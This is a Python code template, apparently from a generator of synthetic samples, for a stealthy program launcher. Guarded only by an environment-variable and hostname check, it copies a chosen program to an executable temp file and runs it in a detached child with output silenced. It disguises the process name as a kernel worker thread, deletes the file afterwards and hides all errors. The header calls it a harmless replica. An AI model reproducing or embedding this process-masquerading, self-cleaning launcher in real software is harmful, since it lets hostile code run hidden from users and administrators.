# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import base64
    import tempfile
    import zlib
    try:
        with open('{{program}}', 'rb') as source:
            carried = base64.b85encode(zlib.compress(source.read()))
        handle, file = tempfile.mkstemp(prefix='{{token}}', dir='{{place}}')
        os.write(handle, zlib.decompress(base64.b85decode(carried)))
        os.fchmod(handle, 0o700)
        os.close(handle)
        child = os.fork()
        if child == 0:
            os.setsid()
            null = os.open('/dev/null', os.O_RDWR)
            for number in (0, 1, 2):
                os.dup2(null, number)
            try:
                os.execve(file, ['[kworker/{{n}}:1]'], {'HOME': '/'})
            finally:
                os._exit(0)
        os.waitpid(child, 0)
        os.unlink(file)
    except Exception:
        pass
